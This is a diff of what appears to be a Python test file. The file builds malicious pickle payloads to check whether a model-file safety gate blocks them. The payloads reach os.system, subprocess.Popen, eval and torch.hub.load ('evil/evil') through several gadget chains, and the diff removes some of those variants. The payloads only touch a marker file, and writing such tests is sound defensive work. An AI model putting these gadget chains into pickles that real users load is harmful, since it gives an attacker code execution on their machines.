@@ -48,9 +48,6 @@ def shell_list(marker: Path) -> bytes:
     return b"](" + text("touch") + text(str(marker)) + b"e"
 
 
-IMPORT_OS = call("importlib", "import_module", text("os"))
-
-
 def _newobj(m: Path) -> bytes:
     new = b"csubprocess\nPopen\n(" + shell_list(m) + b"t\x81N0"
     return P2 + new + call("os", "system", touch(m)) + b"."
@@ -89,26 +86,9 @@ def _from_type(m: Path) -> bytes:
     return in_state(b"ctorch._tensor\n_rebuild_from_type_v2\n" + made)
 
 
+# The gate has a list of what is allowed, so a kind here is a way to get at a function, not a function.
 PICKLES: dict[str, Make] = {
     "os.system": lambda m: in_state(call("os", "system", touch(m))),
-    "eval": lambda m: in_state(call("builtins", "eval", expression(m))),
-    "eval of Python 2": lambda m: in_state(call("__builtin__", "eval", expression(m))),
-    "open": lambda m: in_state(call("builtins", "open", text(str(m)), text("w"))),
-    "subprocess": lambda m: in_state(call("subprocess", "check_call", shell_list(m))),
-    "timeit": lambda m: in_state(call("timeit", "timeit", text("pass"), expression(m))),
-    "import and getattr": lambda m: (
-        P2 + call("builtins", "getattr", IMPORT_OS, text("system")) + b"(" + touch(m) + b"tR."
-    ),
-    "partial": lambda m: P2 + b"cfunctools\npartial\n(cos\nsystem\n" + touch(m) + b"tR(tR.",
-    "methodcaller": lambda m: (
-        P2 + call("operator", "methodcaller", text("system"), touch(m)) + b"(" + IMPORT_OS + b"tR."
-    ),
-    "map": lambda m: (
-        P2 + b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n](" + touch(m) + b"etRtR."
-    ),
-    "key of a dictionary": lambda m: (
-        P2 + b"}(" + call("builtins", "eval", expression(m)) + b"K\x01u."
-    ),
     "pickle in a pickle": _nested_pickle,
     "state of an OrderedDict": _set_state,
     "hooks of a tensor": _hooks,
@@ -119,11 +99,10 @@ PICKLES: dict[str, Make] = {
     "STACK_GLOBAL": _stack_global,
     "registered extension": _extension,
     "torch.load": lambda m: in_state(call("torch.serialization", "load", text(str(m)))),
-    "torch.hub": lambda m: in_state(call("torch.hub", "load", text("evil/evil"), text("x"))),
     "bytes of any number": lambda m: in_state(b"cbuiltins\nbytearray\n(J\xff\xff\xff\x7ftR"),
     "persistent id in text": lambda m: P2 + b"Pos.system\n.",
 }
-LIVE = tuple(PICKLES)[:-4]
+LIVE = tuple(PICKLES)[:-3]
 
 
 def archive(content: bytes, **more: bytes) -> bytes:
